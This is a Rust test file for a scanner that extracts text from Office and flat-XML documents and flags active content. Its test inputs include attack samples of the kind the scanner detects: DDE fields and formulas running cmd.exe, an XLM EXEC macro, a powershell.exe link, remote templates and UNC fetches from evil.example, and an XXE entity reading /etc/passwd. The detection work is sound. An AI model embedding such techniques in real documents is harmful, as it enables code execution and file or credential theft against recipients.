//! Office documents: what is found in them, and what is said of active content.

mod comments;

use std::io::Write as _;

use expect_test::{Expect, expect};

use crate::formats::office::testing::{compound_of, mutate, open, show, zip_of};

const TYPES: &str =
    r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"#;

/// A document with these parts and the needful.
fn check(parts: &[(&str, &str)], expected: &Expect) {
    let mut all: Vec<(&str, &[u8])> = vec![("[Content_Types].xml", TYPES.as_bytes())];
    all.extend(parts.iter().map(|(name, text)| (*name, text.as_bytes())));
    expected.assert_eq(&show(&open(&zip_of(&all))));
}

fn document(body: &str) -> String {
    format!("<?xml version=\"1.0\"?><w:document xmlns:w=\"w\" xmlns:r=\"r\"><w:body>{body}</w:body></w:document>")
}

fn relations(list: &[(&str, &str, &str, bool)]) -> String {
    let list: String = list
        .iter()
        .map(|(id, kind, target, is_external)| {
            let mode = if *is_external { " TargetMode=\"External\"" } else { "" };
            format!("<Relationship Id=\"{id}\" Type=\"http://s/{kind}\" Target=\"{target}\"{mode}/>")
        })
        .collect();
    format!("<?xml version=\"1.0\"?><Relationships>{list}</Relationships>")
}

#[test]
fn words_are_joined_over_runs() {
    let body = "<w:p><w:r><w:t>41</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>11 </w:t></w:r><w:sdt><w:sdtPr><w:text/></w:sdtPr>\
        <w:r><w:t>111</w:t></w:r></w:sdt></w:p><w:tbl><w:tr><w:tc><w:p><w:r><w:t>cell</w:t><w:tab/><w:t>b</w:t></w:r></w:p>\
        </w:tc></w:tr></w:tbl><w:p><w:pPr><w:rPr><w:vanish/></w:rPr></w:pPr><w:r><w:rPr><w:vanish/></w:rPr><w:t>gone</w:t></w:r>\
        <w:r><w:rPr><w:vanish w:val=\"0\"/></w:rPr><w:t>seen</w:t></w:r><w:del><w:r><w:delText>deleted</w:delText></w:r></w:del>\
        <w:ins><w:r><w:t>inserted</w:t></w:r></w:ins></w:p>";
    check(
        &[
            ("word/document.xml", &document(body)),
            ("word/header1.xml", "<?xml version='1.0'?><w:hdr><w:p><w:r><w:t>header</w:t></w:r></w:p></w:hdr>"),
            ("word/foo.xml", "<?xml version='1.0'?><w:footnotes><w:p><w:r><w:t>note</w:t></w:r></w:p></w:footnotes>"),
            (
                "docProps/core.xml",
                "<?xml version='1.0'?><cp:coreProperties><dc:title>Title</dc:title></cp:coreProperties>",
            ),
        ],
        &expect![[r#"
            1 docx []
              4111 111
              cell	b
              seeninserted
              header
              note
              hidden gonedeleted
              other Title
        "#]],
    );
}

#[test]
fn text_boxes_and_alternatives_do_not_part_words() {
    let body = "<w:p><w:r><w:t>41</w:t><mc:AlternateContent><mc:Choice><w:txbxContent><w:p><w:r><w:t>box</w:t></w:r></w:p>\
        </w:txbxContent></mc:Choice><mc:Fallback><w:p><w:r><w:t>old box</w:t></w:r></w:p></mc:Fallback></mc:AlternateContent>\
        </w:r><w:r><w:t>11</w:t></w:r></w:p>";
    check(
        &[("word/document.xml", &document(body))],
        &expect![[r#"
        1 docx []
          box
          4111
          other old box
    "#]],
    );
}

#[test]
fn links_come_with_their_text() {
    let body = "<w:p><w:hyperlink r:id=\"r1\"><w:r><w:t>your </w:t></w:r><w:r><w:t>bank</w:t></w:r></w:hyperlink></w:p>\
        <w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> HYPER</w:instrText></w:r>\
        <w:r><w:instrText>LINK \"http://two.example/\" \\o \"tip\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>\
        <w:r><w:t>two</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>\
        <w:p><w:fldSimple w:instr=\"HYPERLINK https://three.example\"><w:r><w:t>three</w:t></w:r></w:fldSimple></w:p>";
    let links = relations(&[
        ("r1", "hyperlink", "http://one.example/", true),
        ("r2", "hyperlink", "http://unused.example/", true),
    ]);
    check(
        &[("word/_rels/document.xml.rels", &links), ("word/document.xml", &document(body))],
        &expect![[r#"
        1 docx []
          your bank
          two
          three
          -> http://one.example/ Anchor "your bank"
          -> http://two.example/ Anchor "two"
          -> https://three.example Anchor "three"
          -> http://unused.example/ Anchor ""
    "#]],
    );
}

#[test]
fn fields_that_fetch_or_run_are_marked() {
    let field = |code: &str| {
        format!(
            "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/><w:instrText>{code}</w:instrText><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"
        )
    };
    check(
        &[("word/document.xml", &document(&field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"")))],
        &expect![[r#"
        1 docx ["dde"]
          hidden DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"
    "#]],
    );
    check(
        &[("word/document.xml", &document(&field("INCLUDEPICTURE \"\\\\\\\\evil.example\\\\share\\\\a.png\" \\d")))],
        &expect![[r#"
        1 docx ["external_link", "unc_path"]
          -> \\evil.example\share\a.png Fetched ""
    "#]],
    );
    check(
        &[("word/document.xml", &document(&field("DISPLAYBARCODE \"https://evil.example/x\" QR \\q 3")))],
        &expect![[r#"
            1 docx ["qr"]
              other https://evil.example/x
              -> https://evil.example/x Code ""
        "#]],
    );
    check(
        &[("word/document.xml", &document(&field("DISPLAYBARCODE \"https://evil.example/x\" CODE128")))],
        &expect![[r#"
            1 docx []
        "#]],
    );
    check(
        &[("word/document.xml", &document(&field("INCLUDEPICTURE \"C:\\\\Users\\\\a.png\" PAGE")))],
        &expect![[r#"
        1 docx []
    "#]],
    );
}

#[test]
fn nested_codes_are_put_together() {
    let body = "<w:r><w:fldChar w:fldCharType=\"begin\"/><w:instrText>DDE </w:instrText><w:fldChar w:fldCharType=\"begin\"/>\
        <w:instrText>QUOTE 99 109 100</w:instrText><w:fldChar w:fldCharType=\"end\"/><w:fldChar w:fldCharType=\"end\"/></w:r>";
    check(
        &[("word/document.xml", &document(body))],
        &expect![[r#"
        1 docx ["dde"]
          hidden DDE cmd
    "#]],
    );
}

#[test]
fn relations_to_the_outside_are_marked() {
    let list = relations(&[
        ("a", "attachedTemplate", "http://198.51.100.7/t.dotm", true),
        ("b", "oleObject", "mhtml:http://evil.example/x!http://evil.example/x", true),
        ("c", "image", "file:///C:/own.png", true),
        ("d", "attachedTemplate", "file:///C:\\Templates\\Normal.dotm", true),
    ]);
    check(
        &[("word/document.xml", &document("")), ("word/_rels/settings.xml.rels", &list)],
        &expect![[r#"
            1 docx ["remote_template", "external_link", "embedded_object"]
              -> http://198.51.100.7/t.dotm Fetched ""
              -> http://evil.example/x!http://evil.example/x Fetched ""
              -> mhtml:http://evil.example/x!http://evil.example/x Fetched ""
        "#]],
    );
    let share = relations(&[("a", "attachedTemplate", "file://evil.example/share/t.dotm", true)]);
    check(
        &[("word/document.xml", &document("")), ("WORD/_RELS/settings.xml.rels", &share)],
        &expect![[r#"
        1 docx ["remote_template", "unc_path"]
          -> file://evil.example/share/t.dotm Fetched ""
    "#]],
    );
    let slashes = relations(&[
        ("a", "attachedTemplate", "//evil.example/share/t.dotm", true),
        ("b", "hyperlink", "//www.example.com/a", true),
    ]);
    check(
        &[("word/document.xml", &document("")), ("word/_rels/settings.xml.rels", &slashes)],
        &expect![[r#"
        1 docx ["remote_template", "unc_path"]
          -> \\evil.example/share/t.dotm Fetched ""
          -> //www.example.com/a Anchor ""
    "#]],
    );
}

#[test]
fn any_definition_is_refused() {
    let text = "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"lol\"><!ENTITY x SYSTEM \"file:///etc/passwd\">]>\
        <w:document><w:p><w:r><w:t>a&a;&x;b</w:t></w:r></w:p></w:document>";
    check(
        &[("word/document.xml", text)],
        &expect![[r#"
        1 docx ["dtd"]
          ab
        unopened 1 refused
    "#]],
    );
    check(
        &[("word/document.xml", &document("")), ("customXml/item1.xml", "<!DOCTYPE a><a/>")],
        &expect![[r#"
        1 docx ["dtd"]
        unopened 1 refused
    "#]],
    );
}

#[test]
fn sheets_show_cells_and_keep_what_is_hidden() {
    let book = "<?xml version='1.0'?><workbook><sheets><sheet name='One' sheetId='1' r:id='r1'/><sheet name='Two' sheetId='2' \
        state='veryHidden' r:id='r2'/></sheets><definedNames><definedName name='_xlnm.Auto_Open'>Macro1!$A$1</definedName>\
        </definedNames></workbook>";
    let list = relations(&[
        ("r1", "worksheet", "worksheets/a.xml", false),
        ("r2", "worksheet", "/xl/worksheets/b.xml", false),
    ]);
    let strings = "<?xml version='1.0'?><sst><si><t>shared</t></si><si><r><t>ri</t></r><r><t>ch</t></r></si><si><t>unused</t></si></sst>";
    let one = "<?xml version='1.0'?><worksheet><sheetData><row r='1'><c r='A1' t='s'><v>0</v></c><c r='B1'><f>HYPERLINK(\"http://f.example/\",\"x\")</f>\
        <v>4</v></c></row><row r='2' hidden='1'><c r='A2' t='inlineStr'><is><t>inline</t></is></c></row></sheetData><hyperlinks>\
        <hyperlink ref='A1' r:id='l'/></hyperlinks></worksheet>";
    let two = "<?xml version='1.0'?><worksheet><sheetData><row><c t='s'><v>1</v></c><c><f>cmd|'/c calc'!A0</f><v>0</v></c></row></sheetData></worksheet>";
    let links = relations(&[("l", "hyperlink", "http://cell.example/", true)]);
    check(
        &[
            ("xl/worksheets/a.xml", one),
            ("xl/worksheets/b.xml", two),
            ("xl/worksheets/_rels/a.xml.rels", &links),
            ("xl/sharedStrings.xml", strings),
            ("xl/workbook.xml", book),
            ("xl/_rels/workbook.xml.rels", &list),
        ],
        &expect![[r#"
            1 xlsx ["hidden_sheet", "auto_run", "dde"]
              One
              shared	4
              hidden Two
              hidden inline
              hidden rich
              hidden cmd|'/c calc'!A0
              hidden 0
              hidden unused
              other _xlnm.Auto_Open	Macro1!$A$1
              -> http://f.example/ Anchor "x"
              -> http://cell.example/ Anchor "shared"
        "#]],
    );
}

#[test]
fn macro_sheets_are_kept_as_a_child() {
    let sheet = "<?xml version='1.0'?><xm:macrosheet xmlns='m'><sheetData><row><c><f>EXEC(\"calc\")</f></c><c><f>HALT()</f></c></row></sheetData></xm:macrosheet>";
    check(
        &[("xl/macrosheets/sheet1.xml", sheet)],
        &expect![[r#"
        1 xlsx ["xlm", "macro_code"]
        1/xlm xlm []
          EXEC("calc")
          HALT()
    "#]],
    );
}

#[test]
fn external_data_is_marked() {
    let connections =
        "<?xml version='1.0'?><connections><connection><webPr url='http://data.example/q'/></connection></connections>";
    let external = "<?xml version='1.0'?><externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>";
    check(
        &[("xl/connections.xml", connections), ("xl/externalLinks/e.xml", external)],
        &expect![[r#"
        1 xlsx ["external_link", "dde"]
          hidden cmd|/c calc
          -> http://data.example/q Fetched ""
    "#]],
    );
}

#[test]
fn slides_notes_and_actions() {
    let slide = "<?xml version='1.0'?><p:sld xmlns:a='a'><p:cSld><p:sp><p:nvSpPr><p:cNvPr id='1' descr='alt'/></p:nvSpPr><a:p><a:r><a:rPr>\
        <a:hlinkClick r:id='r1'/></a:rPr><a:t>click</a:t></a:r></a:p><a:p><a:r><a:rPr><a:hlinkMouseOver r:id='r2' \
        action='ppaction://program'/></a:rPr><a:t>hover</a:t></a:r></a:p></p:sp></p:cSld></p:sld>";
    let hidden = "<?xml version='1.0'?><p:sld show=\"0\"><a:p><a:r><a:t>unseen</a:t></a:r></a:p></p:sld>";
    let list =
        relations(&[("r1", "hyperlink", "http://slide.example/", true), ("r2", "hyperlink", "powershell.exe", true)]);
    check(
        &[
            ("ppt/slides/slide1.xml", slide),
            ("ppt/slides/slide2.xml", hidden),
            ("ppt/slides/_rels/slide1.xml.rels", &list),
        ],
        &expect![[r#"
            1 pptx ["launch"]
              click
              hover
              hidden unseen
              other alt
              other powershell.exe
              -> http://slide.example/ Anchor "click"
              -> powershell.exe Anchor "hover"
        "#]],
    );
}

#[test]
fn chunks_of_other_formats_are_read() {
    let list = relations(&[("a", "aFChunk", "chunk.txt", false)]);
    check(
        &[
            ("word/document.xml", &document("<w:altChunk r:id=\"a\"/>")),
            ("word/_rels/document.xml.rels", &list),
            ("word/chunk.txt", "see http://chunk.example/"),
        ],
        &expect![[r#"
            1 docx []
            1/zip:3 text []
              see http://chunk.example/
              -> http://chunk.example/ Text ""
            1/chunk:0 text []
              see http://chunk.example/
              -> http://chunk.example/ Text ""
        "#]],
    );
}

#[test]
fn what_is_no_part_of_the_document_is_looked_at_as_in_any_archive() {
    let zip = zip_of(&[("a.txt", b"see https://inner.example/z")]);
    let zip: String = zip.iter().map(|byte| format!("={byte:02X}")).collect();
    let mail = format!(
        "From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: application/zip; name=a.zip\r\n\
        Content-Transfer-Encoding: quoted-printable\r\n\r\n{zip}"
    );
    let card = "BEGIN:VCARD\r\nURL:https://card.example/\r\nEND:VCARD\r\n";
    let parts: &[(&str, &[u8])] = &[
        ("[Content_Types].xml", TYPES.as_bytes()),
        ("word/document.xml", b"<w:document/>"),
        ("word/embeddings/m.eml", mail.as_bytes()),
        ("word/embeddings/b.vcf", card.as_bytes()),
    ];
    for kind in ["docx", "odf"] {
        let mut parts = parts.to_vec();
        if kind == "odf" {
            parts[0] = ("mimetype", b"application/vnd.oasis.opendocument.text");
            parts[1] = ("content.xml", b"<office:document-content/>");
        }
        let content = open(&zip_of(&parts));
        assert_eq!(content.items[0].kind, kind);
        for (number, target) in [(2, "https://inner.example/z"), (3, "https://card.example/")] {
            let place = format!("1/zip:{number}");
            let items = content.items.iter().filter(|item| item.place.starts_with(&place));
            let mut links = items.flat_map(|item| &item.links);
            assert!(links.any(|link| link.target == target), "{kind} {place}: {}", show(&content));
        }
        // What the document's reader takes has no text of its own.
        assert!(content.items[1..3].iter().all(|item| item.text.is_empty()), "{}", show(&content));
    }
}

#[test]
fn the_content_type_names_the_kind() {
    let types = "<?xml version='1.0'?><Types><Override PartName='/word/document.xml' \
        ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>";
    let bytes = zip_of(&[("[content_types].XML", types.as_bytes()), ("word/document.xml", document("").as_bytes())]);
    assert_eq!(open(&bytes).items[0].kind, "docm");
}

#[test]
fn a_string_shown_a_million_times_is_cut() {
    let strings = format!("<sst><si><t>{}</t></si></sst>", "x".repeat(100_000));
    let rows = "<c t='s'><v>0</v></c>".repeat(10_000);
    let sheet = format!("<worksheet><row>{rows}</row></worksheet>");
    let bytes = zip_of(&[
        ("[Content_Types].xml", TYPES.as_bytes()),
        ("xl/sharedStrings.xml", strings.as_bytes()),
        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
    ]);
    let content = open(&bytes);
    assert!(content.items[0].marks.contains(&"text_cut".to_owned()));
    assert!(content.items[0].text.len() <= crate::budget::TEXT_BYTES_MAX);
}

#[test]
fn clean_documents_of_other_programs() {
    for (bytes, expected) in [
        (
            &include_bytes!("../../../../testdata/office/lo.docx")[..],
            expect![[r#"
            1 docx []
              Minutes
              Dear all, please see the minutes of last Monday. Grüße
              Item
              Price
              Apples
              12.50
              other en-US
              other Minutes of the meeting
              other LibreOffice/7.4.7.2$Linux_X86_64 LibreOffice_project/40$Build-2
              other 15.0000
              -> https://minutes.example/2024 Anchor "the minutes"
        "#]],
        ),
        (
            include_bytes!("../../../../testdata/office/library.docx"),
            expect![[r#"
                1 docx []
                  Contract
                  The parties agree to payments.
                  left cell
                  right cell
                  Header line
                  other python-docx
                  other keyword one
                  other generated by python-docx
                  other 2013-12-23T23:15:00Z
                  other 2013-12-23T23:15:00Z
                  other Normal.dotm
                  other Microsoft Macintosh Word
                  other Title
                  other 14.0000
            "#]],
        ),
    ] {
        expected.assert_eq(&show(&open(bytes)));
    }
}

#[test]
fn clean_workbooks_of_other_programs() {
    for (bytes, expected) in [
        (
            &include_bytes!("../../../../testdata/office/lo.xlsx")[..],
            expect![[r#"
            1 xlsx []
              lo
              Item	Price	When
              Apples	12.5	45352
              Pears	7	45353
              Grüße	1	45354
              &C&"DejaVu Serif,Book"&12&A
              &C&"DejaVu Serif,Book"&12Page &P
              other en-US
              other LibreOffice/7.4.7.2$Linux_X86_64 LibreOffice_project/40$Build-2
              other 15.0000
        "#]],
        ),
        (
            include_bytes!("../../../../testdata/office/library.xlsx"),
            expect![[r#"
            1 xlsx ["hidden_sheet"]
              Sheet
              Name	42
              link
              hidden Secret
              hidden hidden cell
              other Microsoft Excel Compatible / Openpyxl 3.1.5
              other openpyxl
              other 2026-11-26T05:23:04Z
              other 2026-11-26T05:23:04Z
              -> https://formula.example/b Anchor "click"
              -> https://sheet.example/a Anchor "link"
        "#]],
        ),
    ] {
        expected.assert_eq(&show(&open(bytes)));
    }
}

#[test]
fn damaged_documents_do_no_harm() {
    mutate(include_bytes!("../../../../testdata/office/lo.xlsx"), 1_000);
    let book =
        zip_of(&[("[Content_Types].xml", TYPES.as_bytes()), ("word/document.xml", document("<w:p/>").as_bytes())]);
    mutate(&book, 1_000);
}

#[test]
fn documents_in_one_xml_file_are_read() {
    let old = "<?xml version='1.0'?><?mso-application progid='Word.Document'?><w:wordDocument \
        xmlns:w='http://schemas.microsoft.com/office/word/2003/wordml'><w:docSuppData><w:binData w:name='editdata.mso'>\
        UEsDBA==</w:binData></w:docSuppData><w:docPr><w:attachedTemplate w:val='http://t.example/t.dot'/></w:docPr><w:body><w:p>\
        <w:hlink w:dest='http://link.example/'><w:r><w:t>41</w:t></w:r></w:hlink><w:r><w:t>11</w:t></w:r></w:p></w:body></w:wordDocument>";
    expect![[r#"
        1 xml ["remote_template"]
          4111
          -> http://t.example/t.dot Fetched ""
          -> http://link.example/ Anchor ""
        1/xml:0 zip []
        unopened 1/xml:0 broken
    "#]]
    .assert_eq(&show(&open(old.as_bytes())));
    let flat = "<?xml version='1.0'?><pkg:package xmlns:pkg='http://schemas.microsoft.com/office/2006/xmlPackage'><pkg:part><pkg:xmlData>\
        <Relationships><Relationship Id='r1' Type='x/hyperlink' Target='http://one.example/' TargetMode='External'/>\
        <Relationship Id='r2' Type='x/attachedTemplate' Target='http://two.example/t.dotm' TargetMode='External'/></Relationships>\
        </pkg:xmlData></pkg:part><pkg:part><pkg:xmlData><w:document><w:p><w:hyperlink r:id='r1'><w:r><w:t>one</w:t></w:r></w:hyperlink></w:p>\
        </w:document></pkg:xmlData></pkg:part></pkg:package>";
    expect![[r#"
        1 xml ["remote_template"]
          one
          -> http://two.example/t.dotm Fetched ""
          -> http://one.example/ Anchor "one"
    "#]]
    .assert_eq(&show(&open(flat.as_bytes())));
    let sheet = "<?xml version='1.0'?><Workbook xmlns='urn:schemas-microsoft-com:office:spreadsheet'><Worksheet ss:Name='Data'><Table>\
        <Row><Cell ss:HRef='http://cell.example/'><Data>a</Data></Cell><Cell ss:Formula='=cmd|&apos;/c calc&apos;!A0'><Data>b</Data></Cell>\
        </Row></Table></Worksheet></Workbook>";
    expect![[r#"
        1 xml ["dde"]
          Data
          a	b
          hidden =cmd|'/c calc'!A0
          -> http://cell.example/ Anchor ""
    "#]]
    .assert_eq(&show(&open(sheet.as_bytes())));
}

#[test]
fn macros_in_one_xml_file_come_out() {
    let project =
        compound_of(&[("VBA/_VBA_PROJECT", b"x"), ("VBA/dir", b"x"), ("VBA/a", b"\x01\x0b\xb0\x00Attribut\x00e x")]);
    let mut packed =
        flate2::write::ZlibEncoder::new([b"ActiveMime".to_vec(), vec![0; 40]].concat(), flate2::Compression::fast());
    packed.write_all(&project).unwrap();
    expect![[r#"
        1 activemime []
        1/mso ole ["macro"]
        1/mso/vba:0 vba ["macro"]
          Attribute
    "#]]
    .assert_eq(&show(&open(&packed.finish().unwrap())));
}

#[test]
fn documents_whose_parts_are_called_as_nobody_calls_them() {
    let types = br#"<?xml version="1.0"?><Types><Override PartName="/foo/bar.qux" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/foo/chunk.xyz" ContentType="text/html"/></Types>"#;
    let relations = br#"<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="/foo/chunk.xyz"/></Relationships>"#;
    let document = br#"<?xml version="1.0"?><w:document><w:body><w:p><w:r><w:t>https://far.exam</w:t></w:r><w:r><w:t>ple/x</w:t></w:r></w:p></w:body></w:document>"#;
    let content = open(&zip_of(&[
        ("[Content_Types].xml", types),
        ("foo/bar.qux", document),
        ("foo/_rels/bar.qux.rels", relations),
        ("foo/chunk.xyz", b"words first <a href='https://chunk.example/'>x</a>"),
    ]));
    assert_eq!(content.items[0].kind, "docx");
    assert!(content.items[0].text.contains("https://far.example/x"), "{}", show(&content));
    let links = || content.items.iter().flat_map(|item| &item.links);
    assert!(links().any(|link| link.target == "https://chunk.example/"), "{}", show(&content));
}

#[test]
fn addresses_that_formulas_put_together_and_servers_of_connections() {
    let sheet = r#"<?xml version="1.0"?><worksheet><sheetData><row><c r="A1"><f>HYPERLINK("http://far"&amp;"-host.example/x","go")</f><v>go</v></c><c r="A2"><f>WEBSERVICE(CHAR(104)&amp;"ttps://in.example/")</f></c></row></sheetData></worksheet>"#;
    let connections = r#"<?xml version="1.0"?><connections><connection><dbPr connection="Provider=SQLOLEDB;Data Source=tcp:db.far.example,1433;Integrated Security=SSPI"/></connection><connection><dbPr connection="Provider=X;Data Source=sql01;Server=(local)"/></connection></connections>"#;
    let content = open(&zip_of(&[
        ("[Content_Types].xml", TYPES.as_bytes()),
        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
        ("xl/connections.xml", connections.as_bytes()),
    ]));
    let targets: Vec<&str> = content.items[0].links.iter().map(|link| link.target.as_str()).collect();
    for target in ["http://far-host.example/x", "https://in.example/", "http://db.far.example/"] {
        assert!(targets.contains(&target), "{target}: {targets:?}");
    }
    assert!(!targets.iter().any(|target| target.contains("sql01")), "{targets:?}");
    assert!(content.items[0].marks.iter().any(|mark| mark == "external_link"), "{:?}", content.items[0].marks);
}

#[test]
fn more_files_of_a_flat_document_than_are_kept_are_said() {
    let files = "<w:binData w:name='a'>TVo=</w:binData>".repeat(1_100);
    let document = format!(
        "<?xml version='1.0'?><w:wordDocument xmlns:w='http://schemas.microsoft.com/office/word/2003/wordml'>{files}</w:wordDocument>"
    );
    let content = open(document.as_bytes());
    assert!(content.items.len() > 1_000, "{}", content.items.len());
    assert!(content.unopened.iter().any(|one| one.why.word() == "over_budget"), "{:?}", content.unopened);
}
